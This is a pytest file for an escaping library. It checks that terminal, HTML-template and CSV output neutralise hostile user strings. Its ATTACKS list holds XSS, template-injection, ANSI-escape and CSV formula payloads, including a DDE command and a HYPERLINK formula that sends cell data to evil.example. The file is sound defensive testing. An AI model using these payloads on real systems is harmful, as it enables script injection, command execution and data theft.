from __future__ import annotations

import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from rich.console import Console

from ocsf_ssl_lib.escaping import csv_original, csv_safe, html_environment, plain_text, terminal_text
from ocsf_ssl_lib.events.tables import read_table, write_table

ATTACKS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7 * 7 }}",
    "[red]ann[/red]",
    "[link=https://evil.example]click[/link]",
    "\x1b[2J\x1b[31mann",
    "\x1b]8;;https://evil.example\x07ann\x1b]8;;\x07",
    "\x9b31mann",
    "ann\u202egnp.exe",
    "\u2066ann\u2069",
    "an\u200bn",
    "ann\nrank 1  ok",
    "ann\rbob",
    "\x00ann",
    "\ud800",
    '=HYPERLINK("https://evil.example?"&A1,"ann")',
    "+cmd|'/c calc'!A1",
    "-2+3+cmd",
    "@SUM(1+1)",
    "\t=1+1",
    "＝1+1",
    "'=1+1",
    "a" * 100_000,
]


@pytest.mark.parametrize("attack", ATTACKS, ids=ascii)
def test_nothing_reaches_the_terminal_but_printable_characters(attack: str) -> None:
    console = Console(width=80, force_terminal=True, color_system="truecolor")
    with console.capture() as shown:
        console.print(terminal_text(attack, length=40))
    assert shown.get().rstrip("\n").isprintable()  # no colour either: markup was not read
    assert len(shown.get().splitlines()) == 1
    assert len(terminal_text(attack, length=40)) <= 40


def test_what_cannot_be_printed_is_written_out_and_the_rest_left_alone() -> None:
    assert plain_text("a\x00\x1b\u202e\ud800\n\U000e0001b") == r"a\x00\x1b\u202e\ud800\n\U000e0001b"
    assert plain_text("Zoë 東京 'x' [red]") == "Zoë 東京 'x' [red]"
    assert plain_text(3.5) == "3.5"


def test_a_cut_value_says_so_and_a_whole_one_does_not() -> None:
    assert plain_text("abcdef", 6) == "abcdef"
    assert plain_text("abcdefg", 6) == "abcde…"
    assert len(plain_text("\x1b" * 50, 20)) == 20


@pytest.mark.parametrize("attack", ATTACKS, ids=ascii)
def test_a_template_escapes_every_value_whether_or_not_it_asks(attack: str) -> None:
    html = html_environment("ocsf_ssl_lib.detect").from_string("<td title='{{ value }}'>{{ value }}</td>")
    shown = html.render(value=attack)
    inside = shown.removeprefix("<td title='").removesuffix("</td>").replace("'>", "", 1)
    assert not set(inside) & set("<>\"'")
    assert shown.isprintable()
    shown.encode("utf-8")


def test_formulas_become_text_and_numbers_stay_numbers() -> None:
    table = pd.DataFrame({"=a": pd.Series(ATTACKS, dtype=object), "score": np.linspace(-3, -1, len(ATTACKS))})
    safe = csv_safe(table)
    assert safe.columns.tolist() == ["'=a", "score"]
    assert not any(re.match(r"[=+\-@\t\r\n\x00＝]", cell) for cell in safe["'=a"])
    assert safe["score"].equals(table["score"])
    assert table.columns[0] == "=a"


def test_csv_gives_back_what_went_in(tmp_path: Path) -> None:
    values = [a for a in ATTACKS if a not in ("\ud800", "\x00ann")]  # pandas cannot read either of them from a CSV
    table = pd.DataFrame({"user": [*values, "ann", None, "-", "''@x"], "@n": range(len(values) + 4)})
    write_table(table, tmp_path / "t.csv")
    pd.testing.assert_frame_equal(read_table(tmp_path / "t.csv"), table, check_dtype=False)
    raw = pd.read_csv(tmp_path / "t.csv", keep_default_na=False)
    assert not raw.iloc[:, 0].str.match(r"[=+\-@\t\r\n＝]").any()


def test_text_of_any_dtype_is_made_safe_and_other_objects_left_alone() -> None:
    mixed = pd.Series(["=1", -1, None, 2.5], dtype=object)
    table = pd.DataFrame({"mixed": mixed, "category": pd.Categorical(["=1", "a", "=1", "a"])})
    safe = csv_safe(table)
    assert safe["mixed"].tolist() == ["'=1", -1, None, 2.5]
    assert safe["category"].tolist() == ["'=1", "a", "'=1", "a"]
    assert csv_original(safe)["category"].tolist() == ["=1", "a", "=1", "a"]
    assert csv_safe(pd.DataFrame()).empty


def test_a_lone_surrogate_does_not_stop_the_file(tmp_path: Path) -> None:
    write_table(pd.DataFrame({"user": pd.Series(["\ud800"], dtype=object)}), tmp_path / "t.csv")
    assert r"\ud800" in (tmp_path / "t.csv").read_text()
